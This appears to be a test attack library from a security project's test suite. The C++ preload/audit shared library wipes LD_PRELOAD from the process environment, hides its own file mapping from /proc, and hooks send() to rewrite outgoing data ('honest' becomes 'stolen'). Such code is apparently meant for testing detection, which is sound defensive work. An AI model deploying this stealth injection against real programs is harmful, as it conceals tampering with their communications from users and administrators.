// A library for LD_PRELOAD and LD_AUDIT. With HIDE set it leaves no trace in /proc and then puts
// other words into the mouth of the program it was loaded into.
#include <dlfcn.h>
#include <link.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdlib>
#include <cstring>
#include <string>

#include "tests/attacks/own_mappings.h"

namespace {

bool hidden = false;

// /proc/PID/environ is this memory.
void forget_variable(const char* name) {
    for (char** each = environ; *each != nullptr; ++each)
        if (std::strncmp(*each, name, std::strlen(name)) == 0) std::memset(*each, 'x', 3);
}

__attribute__((constructor)) void arrive() {
    if (std::getenv("HIDE") == nullptr) return;
    forget_variable("LD_PRELOAD=");
    hidden = holdfast::attacks::forget_file("/attack-preload.so");
}

}  // namespace

extern "C" {

// rtld-audit(7): without it the library is not taken.
unsigned int la_version(unsigned int version) {
    return version;
}

ssize_t send(int socket, const void* data, size_t size, int flags) {
    std::string words(static_cast<const char*>(data), size);
    const auto found = words.find("honest");
    if (hidden && found != std::string::npos) words.replace(found, 6, "stolen");
    return ::sendto(socket, words.data(), words.size(), flags, nullptr, 0);
}
}
